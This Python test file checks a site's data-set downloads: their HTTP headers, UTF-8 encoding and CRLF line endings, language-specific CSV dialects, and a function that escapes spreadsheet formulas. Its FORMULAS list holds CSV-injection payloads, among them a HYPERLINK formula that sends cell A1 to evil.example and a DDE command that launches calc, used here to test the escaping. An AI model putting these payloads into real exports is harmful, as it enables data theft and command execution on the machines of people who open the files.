"""Files of data sets: their headers, and CSV that spreadsheets open without running a formula."""

import re
from functools import partial
from pathlib import Path

import pytest

from battkomp.content.model import Unit
from battkomp.data.columns import Amount, CodedValue
from battkomp.data.files import Dialect, cell, dialect, harmless
from battkomp.languages import LANGUAGES
from tests.support.datasets import EVERY_FILE, SEPARATORS, as_csv, column
from tests.support.sites import change, edited_seed, settings_in, site
from tests.support.visitor import Visitor

TYPES = {"csv": "text/csv; charset=utf-8; header=present", "json": "application/json"}
FORMULAS = [
    *("=1+1", '=HYPERLINK("https://evil.example/?"&A1;"Klikk")', "=cmd|' /C calc'!A0"),
    *("+47 22 00 00 00", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1"),
    *("  =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff20SUM(1)"),
]
TEXTS = ["", "Ås", "a=b", "2021–2022", "67", "https://a.example/?=", "«-»"]


def test_a_file_has_the_headers_of_a_public_download(visitor: Visitor) -> None:
    faults = []
    for file in EVERY_FILE:
        answer, name = visitor.ask(file), file.rpartition("/")[2]
        expected = {
            "Content-Type": TYPES[name.rpartition(".")[2]],
            "Content-Language": file.split("/")[1],
            "Content-Disposition": f'attachment; filename="battkomp-{name}"',
            "X-Robots-Tag": "noindex",
            "Access-Control-Allow-Origin": "*",
            "Surrogate-Key": "content",
        }
        faults += [f"{file}: {one}" for one in expected if answer.headers[one] != expected[one]]
        if answer.status_code != 200 or len(answer.data) > 150_000:
            faults.append(f"{file}: {answer.status}, {len(answer.data)} bytes")
        if 'rel="describedby"' not in answer.headers["Link"] or "Set-Cookie" in answer.headers:
            faults.append(f"{file}: {answer.headers}")
        if not answer.headers["Cache-Control"].startswith("public, max-age=0"):
            faults.append(f"{file}: {answer.headers['Cache-Control']}")
        again = visitor.ask(file, If_None_Match=answer.headers["ETag"])
        if (again.status_code, again.data) != (304, b""):
            faults.append(f"{file}: {again.status} for its own ETag")
        head = visitor.client.head(file)
        if (head.data, head.headers["Content-Length"]) != (b"", str(len(answer.data))):
            faults.append(f"{file}: HEAD answers {head.status}, {head.headers}")
    assert faults == []


def test_other_addresses_are_not_found(visitor: Visitor) -> None:
    unknown = [
        *("/nb/data/funn.xml", "/nb/data/nei.json"),
        *("/data/funn.csv", "/nb/data/funn", "/nb/data/FUNN.CSV/x"),
        *(f"/fragment{file}" for file in EVERY_FILE),
    ]
    assert {file for file in unknown if visitor.ask(file).status_code != 404} == set()
    assert visitor.ask("/nb/data/").headers["Location"] == "/nb/data"
    assert visitor.client.post(EVERY_FILE[0]).status_code == 405


def test_only_formulas_get_an_apostrophe() -> None:
    assert [harmless(text) for text in FORMULAS] == [f"'{text}" for text in FORMULAS]
    assert [harmless(text) for text in TEXTS] == TEXTS


def test_bytes_are_utf_8_with_a_mark_and_lines_end_with_crlf(visitor: Visitor) -> None:
    faults = []
    for file in EVERY_FILE:
        if file.endswith(".csv"):
            text = visitor.ask(file).data.decode("utf-8")
            is_marked = text.startswith("\ufeff") and text.count("\ufeff") == 1
            lines = re.sub('"[^"]*"', "", text)  # a cell may have line breaks of its own
            if not is_marked or not lines.endswith("\r\n") or "\n" in lines.replace("\r\n", ""):
                faults.append(file)
    assert faults == []


def test_the_header_and_the_dialect_are_those_of_the_language(visitor: Visitor) -> None:
    assert as_csv(visitor, "nb", "figures")[0][:3] == ["Nøkkel", "Beskrivelse", "Verdi"]
    assert as_csv(visitor, "en", "figures")[0][:3] == ["Key", "Description", "Value"]
    assert {one.tag: dialect(one).separator for one in LANGUAGES} == SEPARATORS
    assert {one.tag: dialect(one).decimal for one in LANGUAGES} == {"nb": ",", "en": "."}


def test_malicious_content_is_written_whole_and_harmless(tmp_path: Path) -> None:
    title = partial(re.sub, r'title.nb = "Tilgang på.*"', """title.nb = '=1+1;"@x",\\\\x'""")
    body = partial(
        re.sub,
        r'body.nb = "I undersøkelsen.*"',
        'body.nb = "-1; «+»\\\\n\\\\n=2,5 \\\\"så\\\\" 💥"',
    )
    publisher = change('publisher = "Teknisk Ukeblad"', 'publisher = "@Teknisk"')
    seed = edited_seed(tmp_path, findings=lambda text: body(title(text)), sources=publisher)
    visitor = Visitor(site(settings_in(tmp_path), seed))
    row = as_csv(visitor, "nb", "findings")[1]
    assert row[1] == '\'=1+1;"@x",\\x'
    assert row[2] == '\'-1; «+»\n\n=2,5 "så" 💥'
    assert "'@Teknisk" in column(visitor, "nb", "sources", "publisher")


@pytest.mark.parametrize(("decimal", "written"), [(",", "-67,5"), (".", "-67.5")])
def test_a_negative_number_stays_a_number(decimal: str, written: str) -> None:
    value = Amount(-67.5, Unit.COUNT, CodedValue("exact", "exactly"))
    assert cell(value, Dialect(";", decimal)) == written
    assert cell("-67,5", Dialect(";", decimal)) == "'-67,5"
